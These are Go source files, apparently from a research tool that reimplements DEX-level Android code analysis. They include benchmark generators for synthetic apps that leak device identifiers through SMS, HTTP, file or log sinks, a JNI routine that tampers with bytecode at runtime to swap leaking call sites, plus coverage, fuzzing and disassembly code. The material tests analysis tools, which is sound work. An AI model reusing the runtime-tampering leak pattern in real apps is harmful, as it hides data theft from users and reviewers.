					a.InvokeVirtual(desc, "advancedLeak", "()V", a.This())
					a.ReturnVoid()
				})
			})))
		s.natives = map[string]art.NativeFunc{
			desc + "->bytecodeTamper(I)V": tamperNative(desc),
		}
		if leakVia == "native" {
			s.natives[desc+"->nativeSink(Ljava/lang/String;)V"] =
				func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
					logM, err := env.MethodOf("Landroid/util/Log;", "i",
						"(Ljava/lang/String;Ljava/lang/String;)I")
					if err != nil {
						return art.Value{}, err
					}
					tag := env.NewString("native-sm")
					_, err = env.Call(logM, nil, []art.Value{art.RefVal(tag), args[0]})
					return art.Value{}, err
				}
		}
		return s
	}
	return []*Sample{
		mk(1, "sms"),
		mk(2, "http"),
		mk(3, "file-roundtrip"),
		mk(4, "native"),
	}
}

// tamperNative returns the JNI function that swaps the normal/sink call
// site of advancedLeak, exactly like the paper's Code 1.
func tamperNative(desc string) art.NativeFunc {
	return func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
		i := args[0].Int
		return art.Value{}, env.TamperMethod(desc, "advancedLeak",
			func(insns []uint16) []uint16 {
				// Locate the DEX that defines the sample class: under a
				// packer it is the dynamically released one, not [0].
				var f *dex.File
				for _, cand := range env.Runtime().LoadedDexes() {
					if cand.FindClass(desc) != nil {
						f = cand
						break
					}
				}
				if f == nil {
					return nil
				}
				findIdx := func(want string) (uint16, bool) {
					for mi := range f.Methods {
						ref := f.MethodAt(uint32(mi))
						if ref.Class == desc && ref.Name == want {
							return uint16(mi), true
						}
					}
					return 0, false
				}
				for pc := 0; pc < len(insns); {
					in, w, err := bytecode.Decode(insns, pc)
					if err != nil {
						return nil
					}
					if in.Op == bytecode.OpInvokeVirtual {
						name := f.MethodAt(in.Index).Name
						if i == 0 && name == "normal" {
							if idx, ok := findIdx("sink"); ok {
								insns[pc+1] = idx
							}
							return nil
						}
						if i == 1 && name == "sink" {
							if idx, ok := findIdx("normal"); ok {
								insns[pc+1] = idx
							}
							return nil
						}
					}
					pc += w
					if pw, ok := bytecode.PayloadAt(insns, pc); ok {
						pc += pw
					}
				}
				return nil
			})
	}
}

// unreachableFlowSamples contain a complete source-to-sink flow inside a
// branch that never executes: static tools flag them (a false positive per
// ground truth); the revealed APK no longer contains the dead flow.
func unreachableFlowSamples() []*Sample {
	var out []*Sample
	for i := 1; i <= 3; i++ {
		name := fmt.Sprintf("UnreachableFlow%d", i)
		src := sourceKinds[i%len(sourceKinds)]
		sink := sinkKinds[(i+2)%len(sinkKinds)]
		s := contributed(&Sample{
			Name: name, Category: "unreachable", Leaky: false,
			build: newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					a.Const(0, int64(i))
					a.Const(1, 0)
					a.If(bytecode.OpIfEq, 0, 1, "deadcode") // never equal
					a.ReturnVoid()
					a.Label("deadcode")
					emitSource(a, src, 2, 3)
					emitSink(a, sink, 2, 3)
					a.ReturnVoid()
				})
			}),
		})
		out = append(out, s)
	}
	return out
}
