package droidbench

import (
	"fmt"

	"dexlego/internal/apk"
	"dexlego/internal/bytecode"
	"dexlego/internal/dexgen"
)

// benignSamples returns the 20 benign release samples. Several are crafted
// around known over-approximations — dead callbacks, aliasing,
// widget-state conflation, rare lifecycle callbacks, implicit-flow noise —
// so each tool accumulates its characteristic false positives.
func benignSamples() []*Sample {
	var out []*Sample
	out = append(out, cleanSamples()...)        // 6
	out = append(out, deadCallbackSamples()...) // 2
	out = append(out, aliasingSamples()...)     // 4
	out = append(out, widgetConfusion()...)     // 3
	out = append(out, lowMemorySample())        // 1
	out = append(out, implicitNoise()...)       // 4
	return out
}

func benignSample(name, category string, build func() (*apk.APK, error)) *Sample {
	return &Sample{Name: name, Category: category, build: build}
}

func cleanSamples() []*Sample {
	var out []*Sample
	for i := 1; i <= 6; i++ {
		name := fmt.Sprintf("Clean%d", i)
		out = append(out, benignSample(name, "clean",
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					// Reads a source but logs an unrelated constant.
					emitSource(a, sourceKinds[i%len(sourceKinds)], 0, 1)
					a.ConstString(2, "status: ok")
					a.LogLeak("clean", 2, 3)
					a.ReturnVoid()
				})
			})))
	}
	return out
}

// deadCallbackSamples declare an OnClickListener with a leaking onClick
// that is never registered: callback-modeling static tools flag it; at
// runtime the class never loads, so the revealed APK drops it.
func deadCallbackSamples() []*Sample {
	var out []*Sample
	for i := 1; i <= 2; i++ {
		name := fmt.Sprintf("DeadCallback%d", i)
		out = append(out, benignSample(name, "dead-callback",
			func() (*apk.APK, error) {
				p := dexgen.New()
				desc := activityDesc(name)
				ldesc := fmt.Sprintf("Lde/droidbench/%s$Dead;", name)
				dead := p.Class(ldesc, "", "Landroid/view/View$OnClickListener;")
				dead.Ctor("Ljava/lang/Object;", nil)
				dead.Field("act", "Landroid/app/Activity;")
				dead.Virtual("onClick", "V", []string{"Landroid/view/View;"}, func(a *dexgen.Asm) {
					a.IGetObject(6, a.This(), ldesc, "act", "Landroid/app/Activity;")
					a.ConstString(7, "phone")
					a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
						"(Ljava/lang/String;)Ljava/lang/Object;", 6, 7)
					a.MoveResultObject(7)
					a.CheckCast(7, "Landroid/telephony/TelephonyManager;")
					a.InvokeVirtual("Landroid/telephony/TelephonyManager;", "getDeviceId",
						"()Ljava/lang/String;", 7)
					a.MoveResultObject(0)
					a.LogLeak("dead", 0, 1)
					a.ReturnVoid()
				})
				cls := p.Class(desc, "Landroid/app/Activity;")
				cls.Ctor("Landroid/app/Activity;", nil)
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					a.ConstString(0, "nothing to see")
					a.LogLeak("main", 0, 1)
					a.ReturnVoid()
				})
				return p.BuildAPK("de.droidbench."+name, "1.0", desc)
			}))
	}
	return out
}

// aliasingSamples store tainted data in one object and sink from a second,
// distinct object of the same class: field-insensitive analyses conflate
// them (FlowDroid, DroidSafe false positive); value-sensitive HornDroid
// does not.
func aliasingSamples() []*Sample {
	var out []*Sample
	for i := 1; i <= 4; i++ {
		name := fmt.Sprintf("Aliasing%d", i)
		src := sourceKinds[i%len(sourceKinds)]
		sink := sinkKinds[i%len(sinkKinds)]
		out = append(out, benignSample(name, "aliasing",
			func() (*apk.APK, error) {
				p := dexgen.New()
				desc := activityDesc(name)
				hdesc := fmt.Sprintf("Lde/droidbench/%s$Holder;", name)
				holder := p.Class(hdesc, "")
				holder.Ctor("Ljava/lang/Object;", nil)
				holder.Field("data", "Ljava/lang/String;")
				cls := p.Class(desc, "Landroid/app/Activity;")
				cls.Ctor("Landroid/app/Activity;", nil)
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					a.NewInstance(0, hdesc)
					a.InvokeDirect(hdesc, "<init>", "()V", 0)
					a.NewInstance(1, hdesc)
					a.InvokeDirect(hdesc, "<init>", "()V", 1)
					emitSource(a, src, 2, 3)
					a.IPutObject(2, 0, hdesc, "data", "Ljava/lang/String;")
					a.ConstString(4, "empty")
					a.IPutObject(4, 1, hdesc, "data", "Ljava/lang/String;")
					a.IGetObject(5, 1, hdesc, "data", "Ljava/lang/String;")
					emitSink(a, sink, 5, 6)
					a.ReturnVoid()
				})
				return p.BuildAPK("de.droidbench."+name, "1.0", desc)
			}))
	}
	return out
}

// widgetConfusion writes taint into one TextView and sinks the text of
// another: only a deep-but-object-insensitive framework model (DroidSafe)
// conflates the two.
func widgetConfusion() []*Sample {
	var out []*Sample
	for i := 1; i <= 3; i++ {
		name := fmt.Sprintf("WidgetConfusion%d", i)
		src := sourceKinds[(i+1)%len(sourceKinds)]
		sink := sinkKinds[(i+1)%len(sinkKinds)]
		out = append(out, benignSample(name, "widget-confusion",
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					a.NewInstance(0, "Landroid/widget/TextView;")
					a.InvokeDirect("Landroid/widget/TextView;", "<init>", "()V", 0)
					a.NewInstance(1, "Landroid/widget/TextView;")
					a.InvokeDirect("Landroid/widget/TextView;", "<init>", "()V", 1)
					emitSource(a, src, 2, 3)
					a.InvokeVirtual("Landroid/widget/TextView;", "setText",
						"(Ljava/lang/String;)V", 0, 2)
					a.ConstString(4, "hello world")
					a.InvokeVirtual("Landroid/widget/TextView;", "setText",
						"(Ljava/lang/String;)V", 1, 4)
					a.InvokeVirtual("Landroid/widget/TextView;", "getText",
						"()Ljava/lang/String;", 1)
					a.MoveResultObject(5)
					emitSink(a, sink, 5, 6)
					a.ReturnVoid()
				})
			})))
	}
	return out
}

// lowMemorySample leaks only inside onLowMemory, which never fires:
// FlowDroid's exhaustive lifecycle model flags it anyway.
func lowMemorySample() *Sample {
	name := "LowMemory1"
	return benignSample(name, "rare-lifecycle",
		newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
			cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
				a.ConstString(0, "booted")
				a.LogLeak("main", 0, 1)
				a.ReturnVoid()
			})
			cls.Virtual("onLowMemory", "V", nil, func(a *dexgen.Asm) {
				emitSource(a, "imei", 0, 1)
				emitSink(a, "http", 0, 1)
				a.ReturnVoid()
			})
		}))
}

// implicitNoise guards a constant-only sink with a tainted condition:
// implicit-flow tracking (HornDroid) over-approximates it into a finding.
func implicitNoise() []*Sample {
	var out []*Sample
	for i := 1; i <= 4; i++ {
		name := fmt.Sprintf("ImplicitNoise%d", i)
		src := sourceKinds[(i+3)%len(sourceKinds)]
		out = append(out, benignSample(name, "implicit-noise",
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					emitSource(a, src, 0, 1)
					a.InvokeVirtual("Ljava/lang/String;", "isEmpty", "()Z", 0)
					a.MoveResult(2)
					a.IfZ(bytecode.OpIfNez, 2, "skip")
					a.ConstString(3, "device ready")
					a.LogLeak("noise", 3, 4)
					a.Label("skip")
					a.ReturnVoid()
				})
			})))
	}
	return out
}
