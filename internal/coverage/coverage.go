// Package coverage implements the JaCoCo stand-in: an instrumentation-based
// coverage tracker reporting the five granularities of the paper's
// Table VII — class, method, line, branch and instruction coverage. Line
// information is synthesized deterministically from instruction positions
// (our DEX files carry no debug info).
package coverage

import (
	"fmt"
	"sort"

	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
)

// unitsPerLine groups instruction dex_pcs into synthetic source lines.
const unitsPerLine = 4

// Ratio is covered/total for one granularity.
type Ratio struct {
	Covered int
	Total   int
}

// Percent returns the percentage (0 when the total is zero).
func (r Ratio) Percent() float64 {
	if r.Total == 0 {
		return 0
	}
	return 100 * float64(r.Covered) / float64(r.Total)
}

func (r Ratio) String() string {
	return fmt.Sprintf("%d/%d (%.0f%%)", r.Covered, r.Total, r.Percent())
}

// Report is a coverage snapshot across all granularities.
type Report struct {
	Class       Ratio
	Method      Ratio
	Line        Ratio
	Branch      Ratio
	Instruction Ratio
}

type branchEdge struct {
	method string
	pc     int
	taken  bool
}

type lineKey struct {
	method string
	line   int
}

type insnKey struct {
	method string
	pc     int
}

// HandlerSite identifies one try/catch edge: throwing anywhere inside the
// try range transfers control to HandlerPC.
type HandlerSite struct {
	Method    string
	TryStart  int
	HandlerPC int
	Type      string // exception descriptor; catch-all sites use Throwable
}

// Tracker accumulates coverage across any number of runs (its hooks can be
// attached to several runtimes in turn).
type Tracker struct {
	totalClasses  map[string]bool
	totalMethods  map[string]bool
	totalInsns    map[insnKey]bool
	totalLines    map[lineKey]bool
	totalEdges    map[branchEdge]bool
	totalHandlers map[HandlerSite]bool
	methodClass   map[string]string

	classes  map[string]bool
	methods  map[string]bool
	insns    map[insnKey]bool
	lines    map[lineKey]bool
	edges    map[branchEdge]bool
	handlers map[insnKey]bool // covered handler entry pcs

	hooks *art.Hooks
}

// NewTracker computes static totals from the application's DEX files.
func NewTracker(files []*dex.File) (*Tracker, error) {
	t := &Tracker{
		totalClasses:  make(map[string]bool),
		totalMethods:  make(map[string]bool),
		totalInsns:    make(map[insnKey]bool),
		totalLines:    make(map[lineKey]bool),
		totalEdges:    make(map[branchEdge]bool),
		totalHandlers: make(map[HandlerSite]bool),
		methodClass:   make(map[string]string),
		classes:       make(map[string]bool),
		methods:       make(map[string]bool),
		insns:         make(map[insnKey]bool),
		lines:         make(map[lineKey]bool),
		edges:         make(map[branchEdge]bool),
		handlers:      make(map[insnKey]bool),
	}
	for _, f := range files {
		for ci := range f.Classes {
			cd := &f.Classes[ci]
			desc := f.TypeName(cd.Class)
			t.totalClasses[desc] = true
			for _, list := range [][]dex.EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
				for mi := range list {
					em := &list[mi]
					key := f.MethodAt(em.Method).Key()
					t.totalMethods[key] = true
					t.methodClass[key] = desc
					if em.Code == nil {
						continue
					}
					for _, tr := range em.Code.Tries {
						for _, h := range tr.Handlers {
							t.totalHandlers[HandlerSite{
								Method:    key,
								TryStart:  int(tr.Start),
								HandlerPC: int(h.Addr),
								Type:      f.TypeName(h.Type),
							}] = true
						}
						if tr.CatchAll >= 0 {
							t.totalHandlers[HandlerSite{
								Method:    key,
								TryStart:  int(tr.Start),
								HandlerPC: int(tr.CatchAll),
								Type:      "Ljava/lang/RuntimeException;",
							}] = true
						}
					}
					placed, err := bytecode.DecodeAll(em.Code.Insns)
					if err != nil {
						return nil, fmt.Errorf("coverage: %s: %w", key, err)
					}
					for _, p := range placed {
						t.totalInsns[insnKey{key, p.PC}] = true
						t.totalLines[lineKey{key, p.PC / unitsPerLine}] = true
						if p.Inst.Op.IsBranch() {
							t.totalEdges[branchEdge{key, p.PC, true}] = true
							t.totalEdges[branchEdge{key, p.PC, false}] = true
						}
					}
				}
			}
		}
	}
	t.hooks = t.newHooks()
	return t, nil
}

// newHooks builds the instrumentation closure over this tracker's covered
// maps (totals are read-only after construction, so shards can share them).
func (t *Tracker) newHooks() *art.Hooks {
	return &art.Hooks{
		Instruction: func(m *art.Method, pc int, insns []uint16, in *bytecode.Inst) {
			key := m.Key()
			ik := insnKey{key, pc}
			if !t.totalInsns[ik] {
				return // dynamically loaded or modified code outside totals
			}
			t.insns[ik] = true
			t.lines[lineKey{key, pc / unitsPerLine}] = true
			t.methods[key] = true
			t.classes[t.methodClass[key]] = true
			t.handlers[ik] = true
		},
		Branch: func(m *art.Method, pc int, in bytecode.Inst, taken bool) (bool, bool) {
			e := branchEdge{m.Key(), pc, taken}
			if t.totalEdges[e] {
				t.edges[e] = true
			}
			return false, false
		},
	}
}

// Shard returns a tracker that shares t's static totals (read-only after
// construction) but owns fresh covered maps and hooks, so one forced run can
// record coverage on its own goroutine without synchronizing with other
// runs. Fold a shard's observations back with Merge.
func (t *Tracker) Shard() *Tracker {
	s := &Tracker{
		totalClasses:  t.totalClasses,
		totalMethods:  t.totalMethods,
		totalInsns:    t.totalInsns,
		totalLines:    t.totalLines,
		totalEdges:    t.totalEdges,
		totalHandlers: t.totalHandlers,
		methodClass:   t.methodClass,
		classes:       make(map[string]bool),
		methods:       make(map[string]bool),
		insns:         make(map[insnKey]bool),
		lines:         make(map[lineKey]bool),
		edges:         make(map[branchEdge]bool),
		handlers:      make(map[insnKey]bool),
	}
	s.hooks = s.newHooks()
	return s
}

// Merge unions other's covered sets into t. Coverage is monotone set
// growth, so merging is commutative and associative — the merged tracker is
// independent of shard order and count.
func (t *Tracker) Merge(other *Tracker) {
	if other == nil {
		return
	}
	for k := range other.classes {
		t.classes[k] = true
	}
	for k := range other.methods {
		t.methods[k] = true
	}
	for k := range other.insns {
		t.insns[k] = true
	}
	for k := range other.lines {
		t.lines[k] = true
	}
	for k := range other.edges {
		t.edges[k] = true
	}
	for k := range other.handlers {
		t.handlers[k] = true
	}
}

// Hooks returns the instrumentation to attach to a runtime.
func (t *Tracker) Hooks() *art.Hooks { return t.hooks }

// Report returns the current coverage snapshot.
func (t *Tracker) Report() Report {
	return Report{
		Class:       Ratio{len(t.classes), len(t.totalClasses)},
		Method:      Ratio{len(t.methods), len(t.totalMethods)},
		Line:        Ratio{len(t.lines), len(t.totalLines)},
		Branch:      Ratio{len(t.edges), len(t.totalEdges)},
		Instruction: Ratio{len(t.insns), len(t.totalInsns)},
	}
}

// UncoveredBranches returns, per method, the dex_pcs of conditional branch
// edges that have not been taken: the paper's UCB set. A branch appears with
// the edge direction(s) still missing.
func (t *Tracker) UncoveredBranches() []UCB {
	var out []UCB
	for e := range t.totalEdges {
		if !t.edges[e] {
			out = append(out, UCB{Method: e.method, PC: e.pc, Taken: e.taken})
		}
	}
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if a.Method != b.Method {
			return a.Method < b.Method
		}
		if a.PC != b.PC {
			return a.PC < b.PC
		}
		return !a.Taken && b.Taken
	})
	return out
}

// UCB identifies one uncovered conditional-branch edge.
type UCB struct {
	Method string
	PC     int
	Taken  bool
}

// UncoveredHandlers returns the try/catch edges whose handler entry never
// executed. The force-execution extension treats these like uncovered
// branches and injects the matching exception inside the try range.
func (t *Tracker) UncoveredHandlers() []HandlerSite {
	var out []HandlerSite
	for site := range t.totalHandlers {
		if !t.handlers[insnKey{site.Method, site.HandlerPC}] {
			out = append(out, site)
		}
	}
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if a.Method != b.Method {
			return a.Method < b.Method
		}
		return a.HandlerPC < b.HandlerPC
	})
	return out
}
