package coverage_test

import (
	"testing"

	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/coverage"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
)

func buildCovApp(t *testing.T) (*dex.File, *art.Runtime) {
	t.Helper()
	p := dexgen.New()
	cls := p.Class("Lcov/C;", "")
	cls.Static("f", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.Label("ts")
		a.IfZ(bytecode.OpIfLtz, a.P(0), "neg")
		a.Const(0, 1)
		a.Label("te")
		a.Return(0)
		a.Label("neg")
		a.Const(0, -1)
		a.Return(0)
		a.Label("h")
		a.MoveException(1)
		a.Const(0, 9)
		a.Return(0)
		a.Catch("ts", "te", "Ljava/lang/ArithmeticException;", "h")
	})
	cls.Static("unused", "V", nil, func(a *dexgen.Asm) {
		a.Nop()
		a.ReturnVoid()
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	return f, rt
}

func TestTrackerAccumulation(t *testing.T) {
	f, rt := buildCovApp(t)
	tracker, err := coverage.NewTracker([]*dex.File{f})
	if err != nil {
		t.Fatal(err)
	}
	rt.AddHooks(tracker.Hooks())

	rep := tracker.Report()
	if rep.Method.Total != 2 || rep.Branch.Total != 2 {
		t.Fatalf("totals = %+v", rep)
	}
	if len(tracker.UncoveredBranches()) != 2 {
		t.Errorf("fresh tracker UCBs = %d, want 2", len(tracker.UncoveredBranches()))
	}
	if len(tracker.UncoveredHandlers()) != 1 {
		t.Errorf("fresh tracker handlers = %d, want 1", len(tracker.UncoveredHandlers()))
	}

	if _, err := rt.Call("Lcov/C;", "f", "(I)I", nil, []art.Value{art.IntVal(5)}); err != nil {
		t.Fatal(err)
	}
	rep = tracker.Report()
	if rep.Method.Covered != 1 {
		t.Errorf("methods covered = %d", rep.Method.Covered)
	}
	if rep.Branch.Covered != 1 {
		t.Errorf("branch edges covered = %d, want 1 (only not-taken)", rep.Branch.Covered)
	}
	// The other edge covers after a negative input; accumulation must
	// persist across runtimes.
	rt2 := art.NewRuntime(art.DefaultPhone())
	rt2.AddHooks(tracker.Hooks())
	if _, err := rt2.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	if _, err := rt2.Call("Lcov/C;", "f", "(I)I", nil, []art.Value{art.IntVal(-5)}); err != nil {
		t.Fatal(err)
	}
	rep = tracker.Report()
	if rep.Branch.Covered != 2 {
		t.Errorf("branch edges covered = %d, want 2", rep.Branch.Covered)
	}
	if got := len(tracker.UncoveredBranches()); got != 0 {
		t.Errorf("UCBs after both edges = %d", got)
	}
	// The handler never executed.
	if got := len(tracker.UncoveredHandlers()); got != 1 {
		t.Errorf("uncovered handlers = %d, want 1", got)
	}
	// unused() never ran.
	if rep.Method.Covered != 1 || rep.Class.Covered != 1 {
		t.Errorf("coverage over-counts: %+v", rep)
	}
}

func TestRatioFormatting(t *testing.T) {
	r := coverage.Ratio{Covered: 3, Total: 12}
	if r.Percent() != 25 {
		t.Errorf("percent = %f", r.Percent())
	}
	if r.String() != "3/12 (25%)" {
		t.Errorf("string = %q", r.String())
	}
	if (coverage.Ratio{}).Percent() != 0 {
		t.Error("zero-total percent must be 0")
	}
}

func TestShardMerge(t *testing.T) {
	f, _ := buildCovApp(t)
	tracker, err := coverage.NewTracker([]*dex.File{f})
	if err != nil {
		t.Fatal(err)
	}

	// Two shards observe disjoint edges; the parent tracker sees nothing
	// until the barrier merge.
	run := func(shard *coverage.Tracker, arg int64) {
		rt := art.NewRuntime(art.DefaultPhone())
		rt.AddHooks(shard.Hooks())
		if _, err := rt.LoadDex(f); err != nil {
			t.Fatal(err)
		}
		if _, err := rt.Call("Lcov/C;", "f", "(I)I", nil, []art.Value{art.IntVal(arg)}); err != nil {
			t.Fatal(err)
		}
	}
	s1, s2 := tracker.Shard(), tracker.Shard()
	run(s1, 5)
	run(s2, -5)

	if got := tracker.Report().Branch.Covered; got != 0 {
		t.Fatalf("parent saw shard coverage before merge: %d edges", got)
	}
	if s1.Report().Branch.Covered != 1 || s2.Report().Branch.Covered != 1 {
		t.Fatalf("shard reports wrong: %+v / %+v", s1.Report(), s2.Report())
	}
	// Shards share totals by reference, not copy.
	if s1.Report().Branch.Total != tracker.Report().Branch.Total {
		t.Error("shard totals diverge from parent")
	}

	tracker.Merge(s1)
	tracker.Merge(s2)
	tracker.Merge(nil) // no-op
	rep := tracker.Report()
	if rep.Branch.Covered != 2 || rep.Method.Covered != 1 || rep.Class.Covered != 1 {
		t.Errorf("merged coverage = %+v", rep)
	}
	if got := len(tracker.UncoveredBranches()); got != 0 {
		t.Errorf("UCBs after merge = %d", got)
	}

	// Merge is idempotent and order-insensitive: merging again or in the
	// other order changes nothing.
	tracker2, err := coverage.NewTracker([]*dex.File{f})
	if err != nil {
		t.Fatal(err)
	}
	tracker2.Merge(s2)
	tracker2.Merge(s1)
	tracker2.Merge(s1)
	if tracker2.Report() != rep {
		t.Errorf("merge order changed report: %+v vs %+v", tracker2.Report(), rep)
	}
}
