package bytecode

import "testing"

// unitsOf reassembles a []uint16 code stream from fuzzed bytes
// (little-endian pairs, trailing odd byte dropped).
func unitsOf(data []byte) []uint16 {
	units := make([]uint16, len(data)/2)
	for i := range units {
		units[i] = uint16(data[2*i]) | uint16(data[2*i+1])<<8
	}
	return units
}

// FuzzDecode drives arbitrary code units through Decode: decoding must
// never panic, a successful decode must report a sane width, and
// re-encoding the decoded instruction must round-trip back to an equal
// instruction — the reassembler depends on exactly this property when it
// re-emits collected instructions into the revealed DEX.
func FuzzDecode(f *testing.F) {
	seeds := [][]byte{
		{0x12, 0x01},                                     // const/4 v1, 1
		{0x13, 0x00, 0x2a, 0x00},                         // const/16 v0, 42
		{0x0e, 0x00},                                     // return-void
		{0x90, 0x02, 0x00, 0x01},                         // add-int v2, v0, v1
		{0x28, 0xff},                                     // goto -1
		{0x38, 0x00, 0x03, 0x00},                         // if-eqz v0, +3
		{0x1a, 0x00, 0x07, 0x00},                         // const-string v0, @7
		{0x6e, 0x20, 0x05, 0x00, 0x10, 0x00},             // invoke-virtual {v0, v1}
		{0x2b, 0x00, 0x03, 0x00, 0x00, 0x00,              // packed-switch v0, +3
			0x00, 0x01, 0x01, 0x00, 0x05, 0x00, 0x00, 0x00, // payload: 1 case
			0x0a, 0x00, 0x00, 0x00},
		{0x00, 0x00}, // nop
		{0xff, 0xff}, // unused opcode
	}
	for _, s := range seeds {
		f.Add(s, uint16(0))
	}
	f.Fuzz(func(t *testing.T, data []byte, pcRaw uint16) {
		insns := unitsOf(data)
		if len(insns) == 0 {
			return
		}
		pc := int(pcRaw) % len(insns)
		in, width, err := Decode(insns, pc)
		if err != nil {
			return // malformed input must fail cleanly, not panic
		}
		if width < 1 || pc+width > len(insns) {
			t.Fatalf("Decode(pc=%d) reported width %d beyond stream of %d units",
				pc, width, len(insns))
		}
		if got := in.Width(); got != width {
			t.Fatalf("Decode width %d != format width %d for %v", width, got, in)
		}

		// Re-encode of a decoded instruction must succeed and round-trip.
		enc, err := Encode(in)
		if err != nil {
			t.Fatalf("Encode of decoded %v failed: %v", in, err)
		}
		if len(enc) != width {
			t.Fatalf("re-encode width %d != decode width %d for %v", len(enc), width, in)
		}
		stream := enc
		if pw := in.PayloadWidth(); pw > 0 {
			// Switch instructions need their payload appended where Off
			// points before they re-decode.
			payload, err := EncodePayload(in)
			if err != nil {
				t.Fatalf("EncodePayload of decoded %v failed: %v", in, err)
			}
			if in.Off < int32(len(enc)) {
				return // payload before/overlapping the opcode: not re-placeable as-is
			}
			padded := make([]uint16, int(in.Off)+len(payload))
			copy(padded, enc)
			copy(padded[in.Off:], payload)
			stream = padded
		}
		back, w2, err := Decode(stream, 0)
		if err != nil {
			t.Fatalf("re-decode of %v (%04x) failed: %v", in, stream, err)
		}
		if w2 != width {
			t.Fatalf("re-decode width %d != %d for %v", w2, width, in)
		}
		if !back.Equal(in) {
			t.Fatalf("round trip mismatch:\n  decoded   %v\n  re-decoded %v", in, back)
		}
	})
}
