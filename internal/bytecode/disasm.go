package bytecode

import (
	"fmt"
	"strings"
)

// Resolver maps constant-pool indices to human-readable names for
// disassembly. A nil Resolver prints raw indices.
type Resolver func(kind IndexKind, idx uint32) string

func disasmInst(in Inst, r Resolver) string {
	info, ok := opcodeTable[in.Op]
	if !ok {
		return fmt.Sprintf(".unknown 0x%02x", uint8(in.Op))
	}
	name := info.name
	idx := func() string {
		if r != nil {
			return r(info.index, in.Index)
		}
		kinds := map[IndexKind]string{
			IndexString: "string", IndexType: "type",
			IndexField: "field", IndexMethod: "method",
		}
		return fmt.Sprintf("%s@%d", kinds[info.index], in.Index)
	}
	switch info.format {
	case Fmt10x:
		return name
	case Fmt12x:
		return fmt.Sprintf("%s v%d, v%d", name, in.A, in.B)
	case Fmt11n:
		return fmt.Sprintf("%s v%d, #%d", name, in.A, in.Lit)
	case Fmt11x:
		return fmt.Sprintf("%s v%d", name, in.A)
	case Fmt10t, Fmt20t, Fmt30t:
		return fmt.Sprintf("%s %+d", name, in.Off)
	case Fmt22x:
		return fmt.Sprintf("%s v%d, v%d", name, in.A, in.B)
	case Fmt21t:
		return fmt.Sprintf("%s v%d, %+d", name, in.A, in.Off)
	case Fmt21s, Fmt21h, Fmt31i:
		return fmt.Sprintf("%s v%d, #%d", name, in.A, in.Lit)
	case Fmt21c:
		return fmt.Sprintf("%s v%d, %s", name, in.A, idx())
	case Fmt23x:
		return fmt.Sprintf("%s v%d, v%d, v%d", name, in.A, in.B, in.C)
	case Fmt22b, Fmt22s:
		return fmt.Sprintf("%s v%d, v%d, #%d", name, in.A, in.B, in.Lit)
	case Fmt22t:
		return fmt.Sprintf("%s v%d, v%d, %+d", name, in.A, in.B, in.Off)
	case Fmt22c:
		return fmt.Sprintf("%s v%d, v%d, %s", name, in.A, in.B, idx())
	case Fmt31t:
		cases := make([]string, len(in.Keys))
		for i := range in.Keys {
			cases[i] = fmt.Sprintf("%d->%+d", in.Keys[i], in.Targets[i])
		}
		return fmt.Sprintf("%s v%d, {%s}", name, in.A, strings.Join(cases, ", "))
	case Fmt35c, Fmt3rc:
		regs := make([]string, len(in.Args))
		for i, a := range in.Args {
			regs[i] = fmt.Sprintf("v%d", a)
		}
		return fmt.Sprintf("%s {%s}, %s", name, strings.Join(regs, ", "), idx())
	default:
		return name
	}
}

// Disassemble renders a method body as smali-style lines, one per
// instruction, prefixed with its dex_pc. Switch payload regions are skipped.
func Disassemble(insns []uint16, r Resolver) ([]string, error) {
	placed, err := DecodeAll(insns)
	if err != nil {
		return nil, err
	}
	lines := make([]string, len(placed))
	for i, p := range placed {
		lines[i] = fmt.Sprintf("%04x: %s", p.PC, disasmInst(p.Inst, r))
	}
	return lines, nil
}
