package bytecode

import "sync"

// MaxRegister returns the highest register number named by any operand of
// in, or -1 when the instruction has no register operands. It covers exactly
// the operand layout MapRegisters transforms (A is a count, not a register,
// for the invoke formats) without allocating, so interpreters can hoist the
// per-instruction register bounds check out of the step loop.
func MaxRegister(in Inst) int32 {
	max := int32(-1)
	switch in.Op.Format() {
	case Fmt12x, Fmt22x, Fmt22b, Fmt22t, Fmt22s, Fmt22c:
		max = in.A
		if in.B > max {
			max = in.B
		}
	case Fmt11n, Fmt11x, Fmt21t, Fmt21s, Fmt21h, Fmt21c, Fmt31i, Fmt31t:
		max = in.A
	case Fmt23x:
		max = in.A
		if in.B > max {
			max = in.B
		}
		if in.C > max {
			max = in.C
		}
	case Fmt35c, Fmt3rc:
		for _, r := range in.Args {
			if int32(r) > max {
				max = int32(r)
			}
		}
	}
	return max
}

// DecodedInst is one predecoded instruction: the instruction itself plus
// the per-step metadata (width, register ceiling) the interpreter would
// otherwise recompute on every visit. The embedded Inst and its operand
// slices are immutable once predecoded — Programs are shared across frames
// and runtimes, so consumers must Clone before mutating.
type DecodedInst struct {
